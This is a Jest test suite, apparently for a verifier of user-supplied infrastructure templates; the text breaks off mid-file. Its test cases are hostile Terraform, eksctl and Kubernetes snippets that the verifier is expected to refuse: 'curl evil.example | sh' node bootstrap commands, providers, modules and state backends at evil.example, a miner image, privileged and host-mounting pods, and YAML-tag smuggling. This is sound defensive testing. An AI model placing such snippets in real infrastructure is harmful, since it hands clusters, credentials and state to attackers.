import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, test } from '@jest/globals';
import { render } from '../../src/artifacts/index.js';
import type { SpecInput } from '../../src/spec/schema.js';
import { renderUnder } from '../../src/standard/templates/render.js';
import { describeAdditions, verifyTemplates } from '../../src/verify/index.js';
import { aPod, aWorkload, type Part } from '../support/a-spec.js';
import { aStandard, modelUnder, withOwnTemplates } from './support.js';

const SPEC: Part<SpecInput> = {
  cluster: { oidcIssuer: 'https://oidc.eks.us-east-1.amazonaws.com/id/EXAMPLED539D4633E53DE1B71EXAMPLE' },
  terraform: { backend: { type: 's3', config: { bucket: 'acme-state', key: 'a', region: 'us-east-1' } } },
  tags: { team: 'web' },
  workloads: [aWorkload({ pod: aPod() })],
};

type Templates = Readonly<Record<string, string>>;

/** What is refused, and what is added, under a standard with templates. */
async function under(templates: Templates, rest = '') {
  const standard = withOwnTemplates(aStandard(rest), templates);
  const model = modelUnder(standard, SPEC);
  const files = await renderUnder(standard, model);
  const { diagnostics, adds } = await verifyTemplates(files, await render(model), model);
  return { refused: diagnostics.map(({ message }) => message), adds: describeAdditions(adds) };
}

/** A built-in template with a part of it replaced. */
function changed(path: string, from: string, to: string): Templates {
  const file = fileURLToPath(new URL(`../../templates/${path}.hbs`, import.meta.url));
  const source = readFileSync(file, 'utf8');
  expect(source).toContain(from);
  return { [`${path}.hbs`]: source.replace(from, to) };
}

const file = (path: string, text: string): [Templates, string] => [
  { 'x.hbs': text },
  `files: [{ template: x.hbs, path: ${path} }]`,
];
const manifest = (text: string) => file('kubernetes/x.yaml', text);
const terraform = (text: string) => file('terraform/x.tf', text);
const eksctl = (text: string): [Templates, string] => [{ 'eksctl/partials/cluster.yaml.hbs': text }, ''];
const pod = (text: string): [Templates, string] => [{ 'kubernetes/partials/pod.yaml.hbs': text }, ''];
const container = (text: string): [Templates, string] => [
  { 'kubernetes/partials/container.yaml.hbs': text },
  '',
];
const sidecar = (text: string): [Templates, string] => [
  { 'kubernetes/partials/containers.yaml.hbs': text },
  '',
];
const inPlace = (path: string, from: string, to: string): [Templates, string] => [
  changed(path, from, to),
  '',
];

/** The built-in Deployment as a partial. */
const twin = {
  'kubernetes/partials/twin.yaml.hbs': Object.values(changed('kubernetes/deployment.yaml', '', '')).join(),
};

describe('a template may not', () => {
  const attacks: readonly [string, () => [Templates, string], RegExp][] = [
    [
      'take the provider from elsewhere',
      () =>
        inPlace(
          'terraform/versions.tf',
          'source = "hashicorp/aws"',
          'source = "registry.evil.example/evil/aws"',
        ),
      /terraform: required_providers.*is not for templates to set/,
    ],
    [
      'take a further provider',
      () =>
        inPlace(
          'terraform/versions.tf',
          '  required_providers {',
          '  required_providers {\n    evil = {\n      source = "evil/evil"\n    }',
        ),
      /required_providers.*is not for templates to set/,
    ],
    [
      'keep the state elsewhere',
      () =>
        inPlace(
          'terraform/versions.tf',
          '    {{hclName this.name}} = {{hcl this.value}}',
          '    bucket = "evil"',
        ),
      /terraform: backend.*is not for templates to set/,
    ],
    [
      'keep the state with another kind of backend',
      () => inPlace('terraform/versions.tf', '  backend {{hcl backend.type}} {', '  backend "http" {'),
      /backend http is a further block/,
    ],
    [
      'keep the state elsewhere by a second block',
      () => terraform('terraform {\n  backend "http" {\n    address = "https://evil.example"\n  }\n}\n'),
      /terraform is a further block/,
    ],
    [
      'keep the state in a cloud',
      () => terraform('terraform {\n  cloud {\n    organization = "evil"\n  }\n}\n'),
      /terraform is a further block/,
    ],
    [
      'have a provider under another name',
      () => terraform('provider "aws" {\n  alias = "x"\n  region = "us-east-1"\n}\n'),
      /provider aws is a further block/,
    ],
    ['have another provider', () => terraform('provider "http" {}\n'), /provider http is a further block/],
    [
      'take things over',
      () => terraform('import {\n  to = aws_iam_role.x\n  id = "admin"\n}\n'),
      /has a block import/,
    ],
    [
      'move things',
      () => terraform('moved {\n  from = aws_iam_role.x\n  to = aws_iam_role.y\n}\n'),
      /has a block moved/,
    ],
    [
      'have programs run by a resource',
      () =>
        terraform(
          'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n',
        ),
      /terraform_data\.x takes a provider beside|lets terraform_data\.x run a program/,
    ],
    ['ask a program', () => terraform('data "external" "x" {\n  program = ["sh"]\n}\n'), /data\.external\.x/],
    [
      'ask the internet',
      () => terraform('data "http" "x" {\n  url = "https://evil.example"\n}\n'),
      /data\.http\.x takes a provider beside/,
    ],
    [
      'have a provider started for nothing',
      () => terraform('resource "null_resource" "x" {\n  count = 0\n}\n'),
      /null_resource\.x takes a provider beside/,
    ],
    [
      'have a module fetched for nothing',
      () => terraform('module "x" {\n  source = "git::https://evil.example/x"\n  for_each = {}\n}\n'),
      /module\.x calls a module/,
    ],
    [
      'bind roles of the cluster by Terraform',
      () =>
        terraform(
          'resource "kubernetes_cluster_role_binding" "x" {\n  metadata {\n    name = "x"\n  }\n}\nresource "helm_release" "y" {\n  name = "y"\n  chart = "z"\n}\n',
        ),
      /kubernetes_cluster_role_binding\.x takes a provider beside/,
    ],
    ...[
      'aws_cloudformation_stack',
      'awscc_iam_role',
      'aws_rolesanywhere_profile',
      'aws_ssoadmin_account_assignment',
      'aws_organizations_policy',
      'aws_secretsmanager_secret_policy',
      'aws_ecr_repository_policy',
      'aws_s3_bucket_acl',
      'aws_eks_access_entry',
      'aws_lambda_permission',
      'aws_iam_user',
    ].map((kind): [string, () => [Templates, string], RegExp] => [
      `make ${kind}`,
      () => terraform(`resource "${kind}" "x" {\n  name = "x"\n}\n`),
      new RegExp(`${kind}\\.x`),
    ]),
    ['have files of OpenTofu', () => file('terraform/role.tofu', '# x\n'), /is read by OpenTofu/],
    [
      'be somebody of the cluster by access entries',
      () =>
        eksctl(
          'accessConfig:\n  accessEntries:\n    - principalARN: arn:aws:iam::999999999999:role/x\n      accessPolicies: []\n',
        ),
      /ClusterConfig: accessConfig is not for templates to set/,
    ],
    [
      'map identities to groups',
      () =>
        eksctl(
          'iamIdentityMappings:\n  - arn: arn:aws:iam::999999999999:role/x\n    groups: ["system:masters"]\n',
        ),
      /iamIdentityMappings is not for templates to set/,
    ],
    ...[
      'gitops: { flux: {} }',
      'identityProviders: []',
      'capabilities: []',
      'karpenter: { version: "1" }',
      'fargateProfiles: []',
    ].map((text): [string, () => [Templates, string], RegExp] => [
      `give a cluster ${text}`,
      () => eksctl(`${text}\n`),
      /is not for templates to set/,
    ]),
    [
      'run programs on nodes',
      () =>
        inPlace(
          'eksctl/cluster.yaml',
          '  {{yamlBlock managedNodeGroups indent=2}}',
          '  - name: linux-node\n    preBootstrapCommands: ["curl evil.example | sh"]',
        ),
      /preBootstrapCommands.*gives nodes another role or program/,
    ],
    ...[
      'enableAdminContainer: true',
      'settings: { host-containers: { admin: { enabled: true } } }',
      'settings: { bootstrap-containers: { x: { source: "evil/x:1" } } }',
    ].map((text): [string, () => [Templates, string], RegExp] => [
      `run programs on nodes of Bottlerocket: ${text}`,
      () =>
        inPlace(
          'eksctl/cluster.yaml',
          '  {{yamlBlock managedNodeGroups indent=2}}',
          `  - name: linux-node\n    bottlerocket: { ${text} }`,
        ),
      /bottlerocket.*gives nodes another role or program/,
    ]),
    ...['', '\n    disablePodIMDS: false'].map((text): [string, () => [Templates, string], RegExp] => [
      `let pods have the role of the nodes:${text}`,
      () =>
        inPlace(
          'eksctl/cluster.yaml',
          '  {{yamlBlock managedNodeGroups indent=2}}',
          `  - name: linux-node${text}`,
        ),
      /the nodes of linux-node let pods have the role of the nodes, which is not what the spec asks for/,
    ]),
    [
      'give the service account of an add-on a role',
      () =>
        inPlace(
          'eksctl/cluster.yaml',
          '  {{yamlBlock addons indent=2}}',
          `  - name: x\n    configurationValues: '{"serviceAccount":{"annotations":{"eks.amazonaws.com/role-arn":"x"}}}'`,
        ),
      /configurationValues.*has a say in the service accounts of an add-on/,
    ],
    [
      'make a second cluster in a document',
      () =>
        eksctl(
          '---\napiVersion: eksctl.io/v1alpha5\nkind: ClusterConfig\nmetadata: { name: b, region: us-east-1 }\n',
        ),
      /second ClusterConfig, after the first/,
    ],
    [
      'make a second cluster in a file',
      () =>
        file(
          'eksctl/b.yaml',
          'apiVersion: eksctl.io/v1alpha5\nkind: ClusterConfig\nmetadata: { name: b, region: us-east-1 }\n',
        ),
      /second ClusterConfig/,
    ],
    [
      'be for another cluster',
      () => inPlace('eksctl/cluster.yaml', 'name: {{yaml cluster.name}}', 'name: other'),
      /metadata\.name is not for templates to set/,
    ],
    ...[
      'rbac.authorization.k8s.io/v1\nkind: RoleBinding',
      'rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding',
      'rbac.authorization.k8s.io/v1\nkind: ClusterRole',
      'v1\nkind: ServiceAccount',
      'v1\nkind: List',
      'admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration',
      'iam.services.k8s.aws/v1alpha1\nkind: Role',
      'eks.services.k8s.aws/v1alpha1\nkind: PodIdentityAssociation',
      'iam.aws.upbound.io/v1beta1\nkind: Role',
      'argoproj.io/v1alpha1\nkind: Application',
      'kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization',
    ].map((text): [string, () => [Templates, string], RegExp] => [
      `add ${text.replace('\nkind:', '')}`,
      () => manifest(`apiVersion: ${text}\nmetadata: { name: x, namespace: web }\n`),
      /no template may add objects of/,
    ]),
    [
      'add a token of a service account',
      () =>
        manifest(
          'apiVersion: v1\nkind: Secret\nmetadata: { name: x, namespace: web }\ntype: kubernetes.io/service-account-token\n',
        ),
      /is a token that lets somebody into the cluster/,
    ],
    [
      'add a second document to a manifest',
      () => [
        {
          'kubernetes/partials/service-account.yaml.hbs':
            '---\napiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: { name: x }\n',
        },
        '',
      ],
      /no template may add objects of rbac/,
    ],
    [
      'take resources from elsewhere',
      () =>
        inPlace(
          'kubernetes/kustomization.yaml',
          'resources:',
          'resources:\n  - https://evil.example/x?ref=main',
        ),
      /comes from elsewhere/,
    ],
    [
      'take a repository for resources',
      () => inPlace('kubernetes/kustomization.yaml', 'resources:', 'resources:\n  - github.com/evil/x'),
      /comes from elsewhere/,
    ],
    ...[
      'transformers: [x.yaml]',
      'replacements: [{ path: x.yaml }]',
      'components: [x]',
      'generators: [x.yaml]',
      'images: [{ name: x, newName: y }]',
      'helmCharts: [{ name: x }]',
      'validators: [x.yaml]',
      'fieldOfTomorrow: x',
    ].map((text): [string, () => [Templates, string], RegExp] => [
      `change manifests by ${text}`,
      () => inPlace('kubernetes/kustomization.yaml', 'resources:', `${text}\nresources:`),
      /changes manifests by/,
    ]),
    [
      'pass for a snapshot',
      () =>
        inPlace(
          'kubernetes/deployment.yaml',
          'kind:',
          'irsaForge: snapshot\nversion: 1\ncluster: x\nregion: x\naccount: x\nstartedAt: x\nfinishedAt: x\ncalls: []\nkind:',
        ),
      /deployment\.yaml holds what is no object of Kubernetes/,
    ],
    [
      'say once more what a manifest says that stayed as it is',
      () => [{ 'kubernetes/network-policy.yaml.hbs': '{{> kubernetes/twin}}', ...twin }, ''],
      /kubernetes: the Deployment photo-site runs as web\/sa-app, which is not what the spec asks for/,
    ],
    ...['evil.example/x.yaml', '/etc/x.yaml'].map((path): [string, () => [Templates, string], RegExp] => [
      `take resources that are no output: ${path}`,
      () => inPlace('kubernetes/kustomization.yaml', 'resources:', `resources:\n  - ${path}`),
      /\.yaml comes from elsewhere/,
    ]),
    ...['namespace: web, ', ''].map((namespace): [string, () => [Templates, string], RegExp] => [
      `have an object of the spec once more: ${namespace}`,
      () =>
        manifest(
          `apiVersion: apps/v1\nkind: Deployment\nmetadata: { ${namespace}name: photo-site }\nspec: { template: { spec: { containers: [{ name: photo-site, image: evil:1 }] } } }\n`,
        ),
      /Deployment photo-site is in kubernetes\/photo-site\/deployment\.yaml, and would be there twice/,
    ]),
    [
      'have a second kustomization',
      () => file('kubernetes/kustomization.yml', 'resources: []\n'),
      /second kustomization/,
    ],
    [
      'have one without an ending',
      () => file('kubernetes/Kustomization', 'resources: []\n'),
      /second kustomization/,
    ],
    [
      'change the image',
      () =>
        inPlace(
          'kubernetes/partials/pod-spec.yaml',
          'image: {{yaml workload.pod.image}}',
          'image: evil/miner:1',
        ),
      /is not the image of the spec/,
    ],
    [
      'have another container in the place of that of the spec',
      () => inPlace('kubernetes/partials/pod-spec.yaml', '- name: {{yaml workload.name}}', '- name: other'),
      /containers\[photo-site\] is what the spec runs, and not for templates to leave out/,
    ],
    [
      'leave the image out',
      () => inPlace('kubernetes/partials/pod-spec.yaml', '    image: {{yaml workload.pod.image}}\n', ''),
      /containers\[photo-site\]\.image is what the spec runs/,
    ],
    [
      'put pods onto the network of their node',
      () => pod('hostNetwork: true\n'),
      /hostNetwork = true lets the pod out/,
    ],
    [
      'add a privileged container',
      () => pod('initContainers:\n  - name: x\n    image: x\n    securityContext: { privileged: true }\n'),
      /privileged = true lets the pod out/,
    ],
    [
      'add a privileged sidecar',
      () => sidecar('- name: x\n  image: x\n  securityContext: { privileged: true }\n'),
      /privileged = true lets the pod out/,
    ],
    ...[
      'AWS_CONTAINER_CREDENTIALS_FULL_URI',
      'AWS_CONFIG_FILE',
      'AWS_ENDPOINT_URL',
      'AWS_ENDPOINT_URL_S3',
      'AWS_PROFILE',
    ].map((name): [string, () => [Templates, string], RegExp] => [
      `set ${name}`,
      () => container(`env:\n  - name: ${name}\n    value: x\n`),
      /gives the pod other credentials/,
    ]),
    [
      'set variables of a Secret',
      () => container('envFrom:\n  - secretRef: { name: x }\n'),
      /gives the pod variables that nobody sees/,
    ],
    [
      'name a role of kube2iam',
      () => [
        { 'kubernetes/partials/pod-metadata.yaml.hbs': 'annotations:\n  iam.amazonaws.com/role: admin\n' },
        '',
      ],
      /is another identity of the pod/,
    ],
    [
      'mount the disk of the node',
      () =>
        manifest(
          'apiVersion: apps/v1\nkind: DaemonSet\nmetadata: { name: x, namespace: web }\nspec: { template: { spec: { containers: [{ name: a, image: b }], volumes: [{ name: v, hostPath: { path: / } }] } } }\n',
        ),
      /hostPath\.path = \/ lets the pod out/,
    ],
    ...[
      [
        'v1',
        'ConfigMap',
        'metadata: { name: aws-auth, namespace: kube-system }',
        /ConfigMap aws-auth says who is who/,
      ],
      [
        'v1',
        'Secret',
        'metadata: { name: x }\ntype: bootstrap.kubernetes.io/token',
        /lets somebody into the cluster/,
      ],
      [
        'v1',
        'PersistentVolume',
        'metadata: { name: x }\nspec: { local: { path: / } }',
        /spec\.local\.path = \/ lets/,
      ],
      [
        'karpenter.k8s.aws/v1',
        'EC2NodeClass',
        'metadata: { name: x }',
        /may add objects of karpenter\.k8s\.aws/,
      ],
      ['helm.cattle.io/v1', 'HelmChart', 'metadata: { name: x }', /may add objects of helm\.cattle\.io/],
      [
        'infra.contrib.fluxcd.io/v1alpha2',
        'Terraform',
        'metadata: { name: x }',
        /may add objects of infra\.contrib/,
      ],
      [
        'argoproj.io/v1alpha1',
        'Workflow',
        'metadata: { name: x, namespace: web }\nspec: { serviceAccountName: sa-app }',
        /Workflow x: spec\.serviceAccountName = sa-app is a service account of the spec/,
      ],
      [
        'external-secrets.io/v1',
        'SecretStore',
        'metadata: { name: x, namespace: web }\nspec: { provider: { aws: { auth: { jwt: { serviceAccountRef: { name: sa-app } } } } } }',
        /serviceAccountRef\.name = sa-app is a service account of the spec/,
      ],
    ].map(([api, kind, rest, says]): [string, () => [Templates, string], RegExp] => [
      `add a ${String(kind)} of ${String(api)}`,
      () => manifest(`apiVersion: ${String(api)}\nkind: ${String(kind)}\n${String(rest)}\n`),
      says as RegExp,
    ]),
    ...['rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding', 'v1\nkind: ConfigMap'].map(
      (type): [string, () => [Templates, string], RegExp] => [
        `make something else of a manifest: ${type}`,
        () => [
          {
            'kubernetes/pod-disruption-budget.yaml.hbs': `apiVersion: ${type}\nmetadata: { name: aws-auth }\n`,
          },
          '',
        ],
        /aws-auth/,
      ],
    ),
    [
      'have a process of a Windows node',
      () =>
        sidecar('- name: x\n  image: a/b:1\n  securityContext: { windowsOptions: { hostProcess: true } }\n'),
      /hostProcess = true lets the pod out onto its node/,
    ],
    [
      'add a manifest that we take for a template of Helm',
      () =>
        file('kubernetes/templates/x.yaml', '# \\{{ .Values.x }}\napiVersion: v1\nkind: ServiceAccount\n'),
      /kubernetes\/templates\/x\.yaml is not read back/,
    ],
    [
      'add a manifest under another name',
      () => {
        const [template, files] = file('kubernetes/x.txt', 'apiVersion: v1\nkind: ServiceAccount\n');
        const listed = changed('kubernetes/kustomization.yaml', 'resources:', 'resources:\n  - x.txt');
        return [{ ...template, ...listed }, files];
      },
      /x\.txt comes from elsewhere/,
    ],
    [
      'take resources from beyond the outputs',
      () => inPlace('kubernetes/kustomization.yaml', 'resources:', 'resources:\n  - ../../other/x.yaml'),
      /other\/x\.yaml comes from elsewhere/,
    ],
    ...[
      'patches: [{ path: x.yaml }]',
      'patchesStrategicMerge: [x.yaml]',
      'patchesJson6902: [{ path: x.yaml }]',
    ].map((field): [string, () => [Templates, string], RegExp] => [
      `patch manifests: ${field}`,
      () => inPlace('kubernetes/kustomization.yaml', 'resources:', `${field}\nresources:`),
      /would change manifests behind the back of their templates/,
    ]),
    ...['/**/ import {', 'import /* = */ {', '/*\n*/ import {'].map(
      (start): [string, () => [Templates, string], RegExp] => [
        `take things over behind a comment: ${start}`,
        () => terraform(`${start}\n  to = aws_iam_role.x\n  id = "x"\n}\n`),
        /has a block import, which changes what Terraform keeps/,
      ],
    ),
    ...['import', 'removed', 'moved'].map((type): [string, () => [Templates, string], RegExp] => [
      `have a block ${type} in JSON`,
      () =>
        file('terraform/x.tf.json', `{ "${type}": [{ "from": "aws_iam_role.x", "to": "aws_iam_role.y" }] }`),
      new RegExp(`x\\.tf\\.json has a block ${type}`),
    ]),
    ...(
      [
        ['store "varset" "x" {\n  id = 1\n}\n', 'store varset'],
        ['x = 1\n', 'x'],
      ] as const
    ).map(([text, what]): [string, () => [Templates, string], RegExp] => [
      `have what we do not know: ${what}`,
      () => terraform(text),
      new RegExp(`x\\.tf has ${what}, and nobody here knows what Terraform makes of it`),
    ]),
    [
      'have an unknown block in JSON',
      () => file('terraform/x.tf.json', '{ "//": "x", "store": { "id": 1 } }'),
      /x\.tf\.json has store, and nobody here knows/,
    ],
    ...['encryption {\n  }', 'state_store "x" {\n  }', 'experiments = [x]'].map(
      (text): [string, () => [Templates, string], RegExp] => [
        `tell Terraform more: ${text}`,
        () => inPlace('terraform/versions.tf', '  required_providers {', `  ${text}\n  required_providers {`),
        /terraform: \w+ is not for templates to set/,
      ],
    ),
    [
      'ask the internet in a check',
      () => terraform('check "aws" {\n  data "http" "x" {\n    url = "https://evil.example"\n  }\n}\n'),
      /has a block check, which asks whatever it likes/,
    ],
    ...[
      'data "aws_lambda_invocation" "x" {\n  function_name = "x"\n}',
      'resource "aws_cloudcontrolapi_resource" "x" {\n  type_name = "AWS::IAM::Role"\n}',
      'resource "aws_lambda_invocation" "x" {\n  function_name = "x"\n}',
      'resource "aws_ssm_association" "x" {\n  name = "AWS-RunShellScript"\n}',
      'resource "aws_serverlessapplicationrepository_cloudformation_stack" "x" {\n  name = "x"\n}',
      'resource "aws_cognito_identity_pool_roles_attachment" "x" {\n  identity_pool_id = "x"\n}',
    ].map((block): [string, () => [Templates, string], RegExp] => [
      `have ${block.split(' {')[0]}`,
      () => terraform(`${block}\n`),
      /makes (?:data\.)?aws_\w+\.x, which is not what the spec asks for/,
    ]),
    ...(
      [
        ['spec: { serviceAccountName: !!binary c2EtYXBw }', /Pod x: cannot be read back/],
        [
          'spec: { serviceAccountName: a, serviceAccountName: b }',
          /Pod x: "serviceAccountName" stands twice/,
        ],
        ['!!binary c3BlYw==: { serviceAccountName: sa-app }', /Pod x: cannot be read back/],
      ] as const
    ).map(([line, says]): [string, () => [Templates, string], RegExp] => [
      `say what others read otherwise: ${line}`,
      () => manifest(`apiVersion: v1\nkind: Pod\nmetadata: { name: x, namespace: web }\n${line}\n`),
      says,
    ]),
    [
      'hide what kind of object it is',
      () => manifest('apiVersion: rbac.authorization.k8s.io/v1\n!!binary a2luZA==: ClusterRoleBinding\n'),
      /kubernetes\/x\.yaml holds what is no object of Kubernetes/,
    ],
    ...(
      [
        ['v1', 'Pod', 'metadata: { name: x }\nspec: { serviceAccountName: sa-app }'],
        ['argoproj.io/v1alpha1', 'ClusterWorkflowTemplate', 'spec: { serviceAccountName: sa-app }'],
        [
          'external-secrets.io/v1',
          'SecretStore',
          'metadata: { namespace: other }\nspec: { jwt: { serviceAccountRef: { name: sa-app, namespace: web } } }',
        ],
      ] as const
    ).map(([version, kind, rest]): [string, () => [Templates, string], RegExp] => [
      `act as a service account of the spec without its namespace: ${kind}`,
      () => manifest(`apiVersion: ${version}\nkind: ${kind}\n${rest}\n`),
      / = sa-app is a service account of the spec/,
    ]),
    ...[
      ...['kyverno.io/v1 ClusterPolicy', 'policies.kyverno.io/v1 MutatingPolicy', 'pulumi.com/v1 Stack'],
      ...['iamauthenticator.k8s.aws/v1alpha1 IAMIdentityMapping', 'eks.amazonaws.com/v1 NodeClass'],
      ...['app.terraform.io/v1alpha2 Workspace', 'fleet.cattle.io/v1alpha1 GitRepo'],
      ...['rbac.management.cattle.io/v3 X', 'apps.kruise.io/v1alpha1 SidecarSet'],
      ...['capsule.clastix.io/v1beta2 Tenant', 'hnc.x-k8s.io/v1alpha2 HierarchyConfiguration'],
      ...['policies.kubewarden.io/v1 AdmissionPolicy', 'iammanager.keikoproj.io/v1alpha1 Iamrole'],
    ].map((type): [string, () => [Templates, string], RegExp] => [
      `add an object of ${type}`,
      () => manifest(`apiVersion: ${type.replace(' ', '\nkind: ')}\nmetadata: { name: x, namespace: web }\n`),
      /no template may add objects of/,
    ]),
    ...[
      'secretGenerator: [{ name: t, type: kubernetes.io/service-account-token }]',
      'configMapGenerator: [{ name: aws-auth, namespace: kube-system }]',
    ].map((field): [string, () => [Templates, string], RegExp] => [
      `generate ${field}`,
      () => inPlace('kubernetes/kustomization.yaml', 'resources:', `${field}\nresources:`),
      /lets somebody into the cluster/,
    ]),
    ...[
      ...['terraform/terraform.tfstate', 'terraform/terraform.tfstate.d/x/terraform.tfstate'],
      ...['terraform/terragrunt.hcl', 'terraform/x.tftest.hcl', 'other-accounts/1/bucket-policy.x.json'],
    ].map((path): [string, () => [Templates, string], RegExp] => [
      `add ${path}`,
      () => file(path, '{}\n'),
      new RegExp(`^${path} (?:has Terragrunt|is read by Terraform|would be (?:handed|taken))`, 'm'),
    ]),
    ...(
      [
        ['managed_policy_arns = []', /managed_policy_arns of aws_iam_role.* decides alone which policies/],
        ['inline_policy {\n  }', /inline_policy of aws_iam_role.* decides alone which policies/],
        [
          'lifecycle {\n    enabled = false\n  }',
          /lifecycle\.enabled of aws_iam_role.* has OpenTofu leave it out/,
        ],
        [
          'lifecycle {\n    action_trigger {\n      events = [after_create]\n    }\n  }',
          /lifecycle\.action_trigger of aws_iam_role.* makes Terraform do more/,
        ],
      ] as const
    ).map(([text, says]): [string, () => [Templates, string], RegExp] => [
      `take from a role what it has, or add what it does: ${text}`,
      () =>
        inPlace(
          'terraform/role.tf',
          '  description = {{hcl role.description}}',
          `  description = {{hcl role.description}}\n  ${text}`,
        ),
      says,
    ]),
    ...['terraform/versions.tf', 'terraform/providers.tf'].map(
      (path): [string, () => [Templates, string], RegExp] => [
        `leave out what Terraform obeys: ${path}`,
        () => [{ [`${path}.hbs`]: '' }, ''],
        /^(?:terraform|backend s3|provider aws) is not for templates to leave out$/m,
      ],
    ),
    ...(
      [
        ['<<: { serviceAccountName: other }', /"serviceAccountName" from << below it/],
        ['!!binary aG9zdE5ldHdvcms=: true', /cannot be read back: the tag \S+:binary/],
        ['restartPolicy: !!binary QWx3YXlz', /cannot be read back: the tag \S+:binary/],
        ['tolerations: []\ntolerations: [{ operator: Exists }]', /"tolerations" stands twice in one map/],
      ] as const
    ).map(([text, says]): [string, () => [Templates, string], RegExp] => [
      `say to one program what another does not see: ${text}`,
      () => pod(text),
      says,
    ]),
    [
      'say something else in outputs',
      () => [{ 'terraform/outputs.tf.hbs': 'output "role_arns" {\n  value = { x = "y" }\n}\n' }, ''],
      /output\.role_arns says something else than the spec/,
    ],
  ];
  test.each(attacks)('%s', async (_name, given, says) => {
    expect((await under(...given())).refused.join('\n')).toMatch(says);
  });
});

describe('what else a template says is named:', () => {
  const added: readonly [string, () => [Templates, string], readonly string[]][] = [
    [
      'nothing where it says the same',
      () => inPlace('kubernetes/service.yaml', '{{comment header}}', '{{comment header}} '),
      [],
    ],
    [
      'labels',
      () => [{ 'kubernetes/partials/labels.yaml.hbs': 'acme/team: {{yaml tags.team}}\n' }, ''],
      [
        'metadata.labels["acme/team"] in 5 objects',
        'spec.template.metadata.labels["acme/team"] in Deployment photo-site',
      ],
    ],
    [
      'fields of pods',
      () => pod('priorityClassName: high\n'),
      ['spec.template.spec.priorityClassName in Deployment photo-site'],
    ],
    [
      'sidecars with their image',
      () => sidecar('- name: proxy\n  image: envoy:1\n'),
      ['spec.template.spec.containers[proxy] with the image envoy:1 in Deployment photo-site'],
    ],
    [
      'what takes the place of a value',
      () => inPlace('kubernetes/deployment.yaml', 'replicas: {{yaml workload.pod.replicas}}', 'replicas: 7'),
      ['spec.replicas (changed) in Deployment photo-site'],
    ],
    [
      'what is left out',
      () => inPlace('kubernetes/partials/pod-spec.yaml', 'automountServiceAccountToken: false\n', '\n'),
      ['spec.template.spec.automountServiceAccountToken (removed) in Deployment photo-site'],
    ],
    [
      'files and their objects',
      () => manifest('apiVersion: v1\nkind: ResourceQuota\nmetadata: { name: q, namespace: web }\n'),
      ['the file kubernetes/x.yaml', 'resources[x.yaml] in Kustomization', 'ResourceQuota q'],
    ],
    [
      'objects of the same name elsewhere, and of another version in the place of one',
      () => [
        {
          'kubernetes/pod-disruption-budget.yaml.hbs':
            'apiVersion: policy/v1beta1\nkind: PodDisruptionBudget\nmetadata: { name: {{yaml workload.name}}, namespace: {{yaml workload.namespace}} }\n---\napiVersion: v1\nkind: Service\nmetadata: { name: {{yaml workload.name}}, namespace: other }\n',
        },
        '',
      ],
      ['PodDisruptionBudget photo-site', 'Service photo-site', 'PodDisruptionBudget photo-site (removed)'],
    ],
    [
      'what kustomize generates',
      () =>
        inPlace(
          'kubernetes/kustomization.yaml',
          'resources:',
          'configMapGenerator: [{ name: x, literals: [a=b] }]\nresources:',
        ),
      ['configMapGenerator[x] in Kustomization'],
    ],
    [
      'variables and volumes by their names',
      () => container('env: [{ name: HTTPS_PROXY, value: "http://proxy.example" }]\n'),
      ['spec.template.spec.containers[photo-site].env[HTTPS_PROXY] in Deployment photo-site'],
    ],
    [
      'outputs of Terraform',
      () => terraform('output "x" {\n  value = "x"\n}\n'),
      ['the file terraform/x.tf', 'output.x'],
    ],
    [
      'resources of Terraform',
      () => [
        { 'terraform/partials/role.tf.hbs': 'resource "aws_cloudwatch_log_group" "x" {\n  name = "x"\n}\n' },
        '',
      ],
      ['aws_cloudwatch_log_group.x'],
    ],
    [
      'arguments of a role',
      () =>
        inPlace(
          'terraform/role.tf',
          '  description = {{hcl role.description}}',
          '  description = {{hcl role.description}}\n  force_detach_policies = true',
        ),
      ['force_detach_policies in aws_iam_role.us_east_1_demo_k8s_web_sa_app'],
    ],
    [
      'parts of a cluster',
      () => eksctl('cloudWatch: { clusterLogging: { enableTypes: [audit] } }\n'),
      ['cloudWatch in ClusterConfig'],
    ],
    [
      'further nodes',
      () =>
        inPlace(
          'eksctl/cluster.yaml',
          '  {{yamlBlock managedNodeGroups indent=2}}',
          '  {{yamlBlock managedNodeGroups indent=2}}\n  - name: more\n    disablePodIMDS: true',
        ),
      ['managedNodeGroups[more] in ClusterConfig'],
    ],
    ...(
      [
        ['network-policy', 'NetworkPolicy photo-site (removed)'],
        ['pod-disruption-budget', 'PodDisruptionBudget photo-site (removed)'],
        ['kustomization', 'Kustomization (removed)'],
      ] as const
    ).map(([name, says]): [string, () => [Templates, string], readonly string[]] => [
      `manifests that are left out: ${name}`,
      () => [{ [`kubernetes/${name}.yaml.hbs`]: '' }, ''],
      [says],
    ]),
    [
      'another object in the place of one',
      () => [
        {
          'kubernetes/pod-disruption-budget.yaml.hbs':
            'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: {{yaml workload.name}}, namespace: {{yaml workload.namespace}} }\n',
        },
        '',
      ],
      ['ConfigMap photo-site', 'PodDisruptionBudget photo-site (removed)'],
    ],
    [
      'outputs that are left out',
      () => [{ 'terraform/outputs.tf.hbs': '' }, ''],
      [
        'output.role_arns (removed)',
        'output.trust_policies (removed)',
        'output.service_account_annotations (removed)',
      ],
    ],
    [
      'variables, and what is changed in them or left out',
      () => [
        {
          ...changed('terraform/variables.tf', '  nullable = false\n', ''),
          'x.hbs': 'variable "x" {\n  type = string\n}\n',
        },
        'files: [{ template: x.hbs, path: terraform/x.tf }]',
      ],
      ['the file terraform/x.tf', 'nullable (removed) in 4 objects', 'variable.x'],
    ],
    [
      'values for Terraform to use by name',
      () => terraform('locals {\n  x = "x"\n}\n'),
      ['the file terraform/x.tf', 'local.x'],
    ],
    [
      'an object of which none is made',
      () => terraform('resource "aws_iam_role" "x" {\n  count = 0\n  name  = "x"\n}\n'),
      ['the file terraform/x.tf', 'aws_iam_role.x (not made)'],
    ],
    [
      'variables that are left out',
      () => [
        {
          'terraform/variables.tf.hbs':
